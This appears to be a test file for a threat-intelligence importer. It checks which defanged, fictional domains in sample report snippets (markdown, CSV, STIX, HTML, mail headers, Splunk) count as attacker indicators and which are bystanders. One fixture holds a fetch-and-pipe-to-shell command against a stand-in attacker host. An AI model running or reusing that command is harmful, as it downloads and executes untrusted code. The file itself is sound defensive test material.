// Whom a writer names beside the attackers, sentence by sentence: victims, brands, hosters, helpers, tools, the report's own site. And the
// same words where they are said of the attackers, whose names are taken.
import t from 'tap';
import { importSource } from '../../src/lists/import/import-source.ts';
import { lines, NOW } from '../support/lists-report.ts';

interface Case {
  readonly what: string;
  readonly text: string;
  readonly taken: readonly string[];
  readonly file?: string;
}

const BESIDE: readonly Case[] = [
  {
    what: 'address with name in brackets',
    text: lines(
      '# Lentera loader',
      '',
      'The addresses of malicious domains:',
      '',
      '192.0.2.7 (kabar-awan.top)',
      '198.51.100.9 (awan-data77.com)',
    ),
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  {
    what: 'csv row: legit website with a redirect',
    text: lines(
      'type,value,note',
      'domain,kabar-awan.top,landing page',
      'domain,toko-buku.com,legit website with a redirect',
      'domain,bengkel-baja.com,redirect on a legit website',
      'domain,awan-data77.com,redirects to the landing page',
    ),
    taken: ['awan-data77.com', 'kabar-awan.top'],
    file: 'iocs.csv',
  },
  {
    what: 'csv row: open redirect',
    text: lines(
      'type,value,note',
      'url,https://toko-buku.com/r?u=x,open redirect of a legitimate site',
      'domain,awan-data77.com,C2',
    ),
    taken: ['awan-data77.com'],
    file: 'iocs.csv',
  },
  {
    what: 'RAT with public APIs',
    text: lines(
      '# Lentera RAT',
      '',
      'The RAT asks hxxps://api.ipify[.]org for its public address and sends the result to a Telegram bot through hxxps://api.telegram[.]org/bot123. Its configuration comes from hxxps://pastebin[.]com/raw/abc, and as a fallback from hxxps://rentry[.]co/abc. The second stage is downloaded from hxxps://kabar-awan[.]top/s2.bin.',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'geo API that no list knows',
    text: lines(
      '# Lentera',
      '',
      'To find the country it queries the public IP geolocation service hxxp://geo-cari[.]io/json, then connects to awan-data77[.]com.',
    ),
    taken: ['awan-data77.com'],
  },
  {
    what: 'services typed',
    text: '{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","id":"indicator--00000000-0000-4000-8000-000000000001","spec_version":"2.1","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","valid_from":"2026-01-01T00:00:00Z","name":"IP lookup service","description":"Legitimate service abused by the malware to learn its IP","pattern":"[domain-name:value = \'geo-cari.io\']","pattern_type":"stix"},{"type":"indicator","id":"indicator--00000000-0000-4000-8000-000000000002","spec_version":"2.1","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","valid_from":"2026-01-01T00:00:00Z","name":"C2","pattern":"[domain-name:value = \'kabar-awan.top\']","pattern_type":"stix"}]}',
    taken: ['kabar-awan.top'],
    file: 'b.json',
  },
  {
    what: 'comments of html',
    text: '<html><body><article><h1>Lentera</h1><p>C2: kabar-awan[.]top</p></article><div id="comments"><h3>3 Comments</h3><div class="comment"><p>Budi: see also hxxps://situs-budi[.]net/analysis, I wrote about it</p></div></div><footer><p>Contact us at berita-kita.com</p></footer></body></html>',
    taken: ['kabar-awan.top'],
    file: 'page.html',
  },
  {
    what: 'comments of html, by class',
    text: '<html><body><main><h1>Lentera</h1><p>The C2 is kabar-awan[.]top.</p></main><section class="comments-area"><ol class="comment-list"><li><p>My machine also asked toko-buku[.]com, is that bad?</p></li></ol></section></body></html>',
    taken: ['kabar-awan.top'],
    file: 'page.html',
  },
  {
    what: 'byline with an em dash',
    text: lines(
      '# Fake banks',
      '',
      'By Budi Santoso — berita-kita.com',
      '',
      'Domains:',
      '',
      '- palsu-bank[.]shop',
    ),
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'byline marked',
    text: lines(
      '# Fake banks',
      '',
      'Published by Budi Santoso — hxxps://berita-kita[.]com/budi',
      '',
      'C2: kabar-awan[.]top',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'whois mail and registrar',
    text: lines(
      '## Infrastructure',
      '',
      'The domain kabar-awan[.]top was registered on 3 March through Daftar-Domain (daftar-domain.co.id) with the address budi@surat-kita.com; its name servers are ns1.parkir-dns[.]net and ns2.parkir-dns[.]net. It resolves to 192.0.2.7, hosted by Sewa Server (sewa-server[.]net).',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'certificate issuer',
    text: 'The certificate of awan-data77[.]com was issued by Sertifikat Aman (sertifikat-aman[.]org) on 1 May.',
    taken: ['awan-data77.com'],
  },
  {
    what: 'crl and ocsp',
    text: lines(
      'Certificate details:',
      '',
      '- Subject: CN=awan-data77[.]com',
      '- Issuer: Sertifikat Aman CA',
      '- CRL: hxxp://crl.sertifikat-aman[.]org/ca.crl',
      '- OCSP: hxxp://ocsp.sertifikat-aman[.]org',
    ),
    taken: ['awan-data77.com'],
  },
  {
    what: 'alt text',
    text: lines(
      '![Screenshot of the login page of bank-nusantara.co.id](img/login.png)',
      '',
      'The copy at palsu-bank[.]shop asks for a PIN.',
    ),
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'alt text marked',
    text: lines(
      '![The legitimate login page at bank-nusantara[.]co.id](img/login.png)',
      '',
      'The copy at palsu-bank[.]shop asks for a PIN.',
    ),
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'spoofed brand',
    text: 'Victims believed that they were on bank-nusantara[.]co.id, but the address bar showed palsu-bank[.]shop.',
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'redirected to the bank afterwards',
    text: 'After the PIN was entered at palsu-bank[.]shop, the victim was redirected to the bank’s own website, bank-nusantara[.]co.id, so that nothing looked odd.',
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'decoy',
    text: 'While kabar-awan[.]top delivers the loader, a decoy document is opened from hxxps://universitas-lama[.]ac.id/brosur.pdf, the real site of the university.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'researcher handle',
    text: lines(
      'Thanks to @budi_re of riset-keamanan[.]org for sharing the sample.',
      '',
      'C2: kabar-awan[.]top',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'references at the end, marked',
    text: lines(
      'IOCs',
      '',
      'kabar-awan[.]top',
      '',
      'References',
      '',
      '[1] hxxps://riset-keamanan[.]org/lentera',
      '[2] hxxps://berita-kita[.]com/lentera',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'victim posted on leak site',
    text: 'On 4 May the group listed Bengkel Baja (bengkel-baja[.]com), a steel maker from Surabaya, on its leak site. The negotiation chat is at kabar-awan[.]top.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'sinkhole',
    text: 'Since 7 May, kabar-awan[.]top resolves to the sinkhole of the national CERT, sinkhole.cert-kita[.]id.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'email headers in a code block',
    text: lines(
      '```',
      'Received: from mx1.surat-kita.com (mx1.surat-kita.com [192.0.2.9])',
      'From: "Bank Nusantara" <info@bank-nusantara.co.id>',
      'Reply-To: info@palsu-bank[.]shop',
      'Return-Path: <bounce@surat-massal.net>',
      '```',
      '',
      'The link leads to hxxps://palsu-bank[.]shop/masuk.',
    ),
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'curl in a code block',
    text: lines(
      '```bash',
      'curl -s https://alat-kita.dev/install.sh | bash',
      'curl -s hxxp://kabar-awan[.]top/x.sh | sh',
      '```',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'takedown',
    text: 'We informed the registrar daftar-domain[.]co.id and the hoster sewa-server[.]net, which took kabar-awan[.]top down within an hour.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'update server of a product',
    text: 'The malicious DLL was placed beside a program of Perangkat Lunak Maju, whose update server pembaruan.perangkat-maju[.]com was not compromised. The DLL connects to awan-data77[.]com.',
    taken: ['awan-data77.com'],
  },
  {
    what: 'supply chain',
    text: 'Visitors of the compromised site toko-buku[.]com were served a script from kabar-awan[.]top.',
    taken: ['kabar-awan.top', 'toko-buku.com'],
  },
  {
    what: 'advert network',
    text: 'The advertisement was delivered through the ad network iklan-kita[.]net, which has removed it; it led to palsu-alat[.]download.',
    taken: ['palsu-alat.download'],
  },
  {
    what: 'search result',
    text: 'Users who searched for “Alat Kita” saw palsu-alat[.]download above the official site alat-kita[.]dev.',
    taken: ['palsu-alat.download'],
  },
  {
    what: 'dns-over-https resolver',
    text: 'The implant resolves kabar-awan[.]top with the public resolver dns.umum[.]net over HTTPS.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'tool used',
    text: 'We unpacked it with Buka (hxxps://alat-buka[.]dev), an open-source tool, and found the address awan-data77[.]com.',
    taken: ['awan-data77.com'],
  },
  {
    what: 'similar infra, not this',
    text: 'The name resembles kabar-lama[.]net, a legitimate news portal that is not involved. The C2 is kabar-awan[.]top.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'exfil over smtp',
    text: 'Stolen data is sent by SMTP through mail.bengkel-baja[.]com with a stolen account to kotak@surat-kita.com.',
    taken: [],
  },
  {
    what: 'webhook',
    text: 'Results are posted to a Discord webhook (hxxps://discord[.]com/api/webhooks/1/abc) and to kabar-awan[.]top.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'table with verdict legit',
    text: lines(
      '| Domain | Verdict |',
      '| --- | --- |',
      '| kabar-awan[.]top | malicious |',
      '| toko-buku[.]com | legitimate, abused for hosting |',
      '| bengkel-baja[.]com | clean |',
    ),
    taken: ['kabar-awan.top', 'toko-buku.com'],
  },
  {
    what: 'timeline',
    text: lines(
      '| Time | Event |',
      '| --- | --- |',
      '| 10:02 | User opens webmail.bengkel-baja.com |',
      '| 10:03 | DNS query for kabar-awan[.]top |',
      '| 10:05 | Proxy blocks awan-data77[.]com |',
    ),
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  {
    what: 'our customers should block',
    text: lines(
      'Block the following domains:',
      '',
      'kabar-awan[.]top',
      'awan-data77[.]com',
      '',
      'Do not block cdn.alat-kita[.]dev, which the malware only uses to test its connection.',
    ),
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  {
    what: 'german',
    text: 'Die Schadsoftware lädt von kabar-awan[.]top nach. Betroffen ist die Webseite des Herstellers werk-alt[.]de, der inzwischen informiert wurde.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'polish',
    text: lines(
      'Domeny użyte w kampanii:',
      '',
      '- palsu-bank[.]shop',
      '',
      'Prawdziwa strona banku to bank-nusantara[.]co.id.',
    ),
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'mail thread',
    text: lines(
      '> On Tue, Budi wrote:',
      '> > the beacon goes to kabar-awan[.]top',
      '> yes, and to awan-data77[.]com',
      'Not to toko-buku[.]com, that is our own shop.',
    ),
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  {
    what: 'forum post',
    text: lines(
      '**budi** said:',
      'My router asks kabar-awan[.]top every minute. I tried the removal tool from bersih-kita[.]com and it found nothing.',
    ),
    taken: ['kabar-awan.top'],
  },
  {
    what: 'splunk',
    text: 'index=dns query IN ("kabar-awan.top","awan-data77.com") NOT query="*.toko-buku.com"',
    taken: ['awan-data77.com', 'kabar-awan.top'],
    file: 'q.spl',
  },
];

const OF_ATTACKERS: readonly Case[] = [
  {
    what: 'page hosted on a tenant',
    text: 'The page was hosted by Awan Pages (palsu-bank.pages[.]dev).',
    taken: ['palsu-bank.pages.dev'],
  },
  { what: 'gang own site', text: 'Kumbang’s own leak site is kabar-awan[.]top.', taken: ['kabar-awan.top'] },
  { what: 'their own', text: 'They now run their own site, kabar-awan[.]top.', taken: ['kabar-awan.top'] },
  {
    what: 'not affected',
    text: 'kabar-awan[.]top was not affected by the takedown.',
    taken: ['kabar-awan.top'],
  },
  { what: 'not part', text: 'kabar-awan[.]top was not part of the first wave.', taken: ['kabar-awan.top'] },
  {
    what: 'not involved in',
    text: 'kabar-awan[.]top was not involved in the first wave.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'do not block',
    text: 'Networks that do not block kabar-awan[.]top are still at risk.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'bulletproof',
    text: 'It is hosted by the bulletproof hosting provider kabar-awan[.]top.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'compromised',
    text: 'Through the compromised hosting provider kabar-awan[.]top they got in.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'fake registrar',
    text: 'Mails of the fake registrar kabar-awan[.]top ask for a renewal.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'fake file sharing',
    text: 'Victims are lured to a file sharing site, palsu-berbagi[.]top.',
    taken: ['palsu-berbagi.top'],
  },
  {
    what: 'leak site in brackets',
    text: 'The group published its leak site (kabar-awan[.]top) in May.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'dns c2',
    text: lines('DNS exfiltration servers:', '', '- kabar-awan.top'),
    taken: ['kabar-awan.top'],
  },
  { what: 'dns tunnel server label', text: 'DNS tunnel server: kabar-awan.top', taken: ['kabar-awan.top'] },
  {
    what: 'they believed',
    text: 'The analysts believed that kabar-awan[.]top is used for staging.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'not only',
    text: 'The loader asks not only kabar-awan[.]top but also awan-data77[.]com.',
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  {
    what: 'scan tool fake',
    text: 'Users downloaded the fake removal tool from palsu-alat[.]download.',
    taken: ['palsu-alat.download'],
  },
  {
    what: 'stolen account',
    text: 'They registered kabar-awan[.]top with a stolen account.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'services of crime',
    text: 'The stresser service kabar-awan[.]top was rented.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'redirect csv',
    text: lines('type,value,note', 'domain,kabar-awan.top,redirects victims to a legit site'),
    taken: ['kabar-awan.top'],
    file: 'x.csv',
  },
  {
    what: 'stix desc',
    text: '{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","id":"indicator--00000000-0000-4000-8000-000000000002","spec_version":"2.1","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","valid_from":"2026-01-01T00:00:00Z","name":"kabar-awan.top","description":"Imitates a legitimate news site","pattern":"[domain-name:value = \'kabar-awan.top\']","pattern_type":"stix"}]}',
    taken: ['kabar-awan.top'],
    file: 'b.json',
  },
  {
    what: 'html comments class on body',
    text: '<html><body class="single comments-open"><div class="post"><p>C2: kabar-awan[.]top</p></div></body></html>',
    taken: ['kabar-awan.top'],
    file: 'p.html',
  },
  {
    what: 'html no-comments',
    text: '<html><body><div class="no-comments entry"><p>C2: kabar-awan[.]top</p></div></body></html>',
    taken: ['kabar-awan.top'],
    file: 'p.html',
  },
  {
    what: 'byline like',
    text: 'Used by APT Kumbang — hxxps://kabar-awan[.]top/gate',
    taken: ['kabar-awan.top'],
  },
  { what: 'by group', text: 'Run by Kumbang Merah (kabar-awan[.]top) since May.', taken: ['kabar-awan.top'] },
  {
    what: 'signed',
    text: 'The dropper, signed by Kumbang Merah (kabar-awan[.]top), is new.',
    taken: ['kabar-awan.top'],
  },
  {
    what: 'address list',
    text: lines('C2 IPs:', '', '192.0.2.7 (static-192-0-2-7.sewa-server.net)'),
    taken: [],
  },
  { what: 'alternatives in regex', text: 'hxxp://kabar-awan[.]top/(a|b)/x', taken: ['kabar-awan.top'] },
  {
    what: 'column pipe',
    text: '|kabar-awan[.]top|awan-data77[.]com|',
    taken: ['awan-data77.com', 'kabar-awan.top'],
  },
  { what: 'short link mention', text: 'hxxps://kabar-awan[.]top/x (short-lived)', taken: ['kabar-awan.top'] },
  {
    what: 'provider heading',
    text: lines('Domains mimicking hosting providers:', '', '- palsu-sewa.top'),
    taken: ['palsu-sewa.top'],
  },
  {
    what: 'ns of attackers',
    text: 'The tunnel uses the name servers ns1.kabar-awan[.]top and ns2.kabar-awan[.]top.',
    taken: ['ns1.kabar-awan.top', 'ns2.kabar-awan.top'],
  },
  {
    what: 'subscribe page',
    text: 'The page asks victims to subscribe at palsu-berita[.]top for 9 euros a day.',
    taken: ['palsu-berita.top'],
  },
  {
    what: 'company site phish',
    text: 'The link leads to the company’s own login page as copied at palsu-bank[.]shop.',
    taken: ['palsu-bank.shop'],
  },
  {
    what: 'whole names in a pattern',
    text: 'C2 domains: `(api[.]kabar-awan[.]top|awan-data77[.]com|palsu-bank[.]shop)`',
    taken: ['api.kabar-awan.top', 'awan-data77.com', 'palsu-bank.shop'],
  },
  {
    what: 'hosts below a name that anybody may have one of',
    text: lines('dynu.com', 'kabar-awan.dynu.com', 'palsu.afraid.org'),
    taken: ['kabar-awan.dynu.com', 'palsu.afraid.org'],
    file: 'domains.txt',
  },
];

for (const { what, text, taken, file = 'report.md' } of [...BESIDE, ...OF_ATTACKERS])
  t.test(what, async (t) => {
    const report = await importSource({ bytes: Buffer.from(text), sourceName: file, now: NOW });
    t.same(report.taken.map(({ name }) => name).sort(), taken);
  });

t.test('a remark of 250 characters says the same in STIX and in MISP', async (t) => {
  const remark = `${'Seen in the second wave of mails. '.repeat(7)}Do not block.`;
  const common = { type: 'indicator', spec_version: '2.1', created: '2026-01-01T00:00:00Z' };
  const indicator = { ...common, id: 'indicator--00000000-0000-4000-8000-000000000001', name: 'a' };
  const pattern = { pattern: "[domain-name:value = 'toko-buku.com']", pattern_type: 'stix' };
  const stix = {
    type: 'bundle',
    id: 'bundle--1',
    objects: [{ ...indicator, ...pattern, description: remark }],
  };
  const attribute = { type: 'domain', value: 'toko-buku.com', to_ids: true, comment: remark };
  const misp = { Event: { info: 'a', date: '2026-01-01', Attribute: [attribute] } };
  for (const [kind, document] of Object.entries({ stix, misp })) {
    const bytes = Buffer.from(JSON.stringify(document));
    const report = await importSource({ bytes, sourceName: `${kind}.json`, now: NOW });
    t.match(report, { kind, taken: [], leftOut: [{ reason: 'benign' }] });
  }
});
